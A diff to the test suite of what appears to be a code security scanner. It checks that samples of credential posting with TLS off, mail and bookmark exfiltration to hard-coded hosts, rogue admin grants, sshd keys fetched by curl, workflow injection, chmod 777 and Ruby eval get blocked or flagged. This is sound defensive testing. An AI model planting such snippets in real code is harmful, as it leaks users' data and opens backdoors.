@@ -114,8 +114,9 @@ describe("dangerous capabilities (high, not blocked)", () => {
     review(scanOf({ ".github/workflows/t.yml": wf("pull_request_target") }), "SR-SUPPLY-017");
     atMostMedium(scanOf({ ".github/workflows/t.yml": wf("pull_request") }));
   });
-  it("Go: TLS checks off on a login with a password; on against localhost only, without secrets, it is not", () => {
-    review(scanOf({ "login.go": 'package main\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n\t"net/url"\n\t"os"\n)\n\nfunc main() {\n\tc := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}\n\tc.PostForm(os.Args[1], url.Values{"user": {"admin"}, "password": {os.Getenv("PASSWORD")}})\n}\n' }), "SR-SUPPLY-018");
+  it("Go: TLS checks off on a login with a password to a written-in host; to the self-hosted server the user names, it is not", () => {
+    review(scanOf({ "login.go": 'package main\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n\t"net/url"\n\t"os"\n)\n\nfunc main() {\n\tc := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}\n\tc.PostForm("https://portal.licence-hub.com/auth", url.Values{"user": {os.Args[1]}, "password": {os.Getenv("PASSWORD")}})\n}\n' }), "SR-SUPPLY-018");
+    atMostMedium(scanOf({ "login.go": 'package main\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n\t"net/url"\n\t"os"\n)\n\nfunc main() {\n\tc := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}\n\tc.PostForm(os.Getenv("NAS_URL")+"/auth", url.Values{"user": {"admin"}, "password": {os.Getenv("PASSWORD")}})\n}\n' }));
     atMostMedium(scanOf({ "ping.go": 'package main\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n)\n\nfunc main() {\n\tc := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}\n\tc.Get("https://localhost:8443/healthz")\n}\n' }));
   });
   it("bash: eval of the first argument; a case over fixed verbs is not", () => {
@@ -138,11 +139,6 @@ describe("dangerous capabilities (high, not blocked)", () => {
 });
 
 describe("wider forms of the same classes", () => {
-  it("mail fetched over IMAP and posted to a written-in host; summarised by Anthropic, it is not", () => {
-    const read = "import imaplib, json\nm = imaplib.IMAP4_SSL('imap.gmail.com')\nm.login(USER, PASSWORD)\nm.select('INBOX')\n_, ids = m.search(None, 'ALL')\nbodies = [m.fetch(i, '(RFC822)')[1][0][1].decode() for i in ids[0].split()[-50:]]\n";
-    blocked(scanOf({ "digest.py": `${read}import requests\nrequests.post('https://digest.inboxzen.app/ingest', json=bodies)\n` }));
-    atMostMedium(scanOf({ "digest.py": `${read}import requests\nrequests.post('https://api.anthropic.com/v1/messages', headers={'x-api-key': KEY}, json={'model': 'claude', 'messages': [{'role': 'user', 'content': '\\n'.join(bodies)}]})\n` }));
-  });
   it("a notes folder rsynced to a written-in server and Chrome bookmarks copied to a bucket; to the user's own target, they are not", () => {
     blocked(scanOf({ "sync.sh": "#!/bin/bash\ncd ~/Notes && tar czf /tmp/n.tgz . && rsync -a /tmp/n.tgz mirror@notes-sync.quickmark.io:/srv/in/\n" }));
     blocked(scanOf({ "bm.sh": "#!/bin/bash\naws s3 cp \"$HOME/Library/Application Support/Google/Chrome/Default/Bookmarks\" s3://bookmark-sync-prod/$(whoami)\n" }));
@@ -157,5 +153,23 @@ describe("wider forms of the same classes", () => {
     blocked(scanOf({ "team.js": "const { Octokit } = require('@octokit/rest');\nconst o = new Octokit({ auth: process.env.GH_TOKEN });\nfor (const repo of repos) o.repos.addCollaborator({ owner, repo, username: 'ci-cache-bot', permission: 'admin' });\n" }));
     blocked(scanOf({ "rbac.sh": "#!/bin/bash\nkubectl create clusterrolebinding support-access --clusterrole=cluster-admin --user=k8s.support.desk@gmail.com\n" }));
     atMostMedium(scanOf({ "rbac.sh": "#!/bin/bash\nkubectl create clusterrolebinding \"$1-admin\" --clusterrole=cluster-admin --user=\"$1\"\n" }));
+  });
+});
+
+describe("more grants and capabilities", () => {
+  it("a webhook to a written-in host and sshd asking a web address for keys are grants; a webhook to the caller's URL is not", () => {
+    blocked(scanOf({ "hook.sh": "#!/bin/bash\nfor r in $(gh repo list \"$ORG\" --json name -q '.[].name'); do\n  gh api \"repos/$ORG/$r/hooks\" -f name=web -f 'config[url]=https://ci-events.buildmetrics.dev/gh' -F 'events[]=push' -F active=true\ndone\n" }));
+    blocked(scanOf({ "sshd.sh": "#!/bin/bash\necho 'AuthorizedKeysCommand /usr/bin/curl -fsS https://keys.fleet-access.net/u/%u' >> /etc/ssh/sshd_config\necho 'AuthorizedKeysCommandUser nobody' >> /etc/ssh/sshd_config\n" }));
+    atMostMedium(scanOf({ "hook.sh": "#!/bin/bash\ngh api \"repos/$REPO/hooks\" -f name=web -f \"config[url]=$1\" -F 'events[]=push'\n" }));
+  });
+  it("an issue_comment workflow checking out the pull request and a title spliced into run are dangerous; the title through env is not", () => {
+    review(scanOf({ ".github/workflows/cmd.yml": "on:\n  issue_comment:\n    types: [created]\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.issue.number }}/head\n      - run: ./deploy.sh\n" }), "SR-SUPPLY-017");
+    review(scanOf({ ".github/workflows/t.yml": "on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - name: greet\n        run: |\n          echo 'PR:'\n          echo \"${{ github.event.pull_request.title }}\"\n" }), "SR-SUPPLY-019");
+    atMostMedium(scanOf({ ".github/workflows/t.yml": "on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - name: greet\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$TITLE\"\n" }));
+  });
+  it("chmod with the recursive flag after the mode, and Ruby eval of a request parameter, are dangerous", () => {
+    review(scanOf({ "fix.sh": "#!/bin/bash\nchmod 777 -R /var\n" }), "SR-PRIV-017");
+    review(scanOf({ "app.rb": "require 'sinatra'\npost '/calc' do\n  eval(params[:expr]).to_s\nend\n" }), "SR-INJECT-017");
+    atMostMedium(scanOf({ "app.rb": "require 'sinatra'\npost '/calc' do\n  Integer(params[:a]) + Integer(params[:b])\nend\n" }));
   });
 });
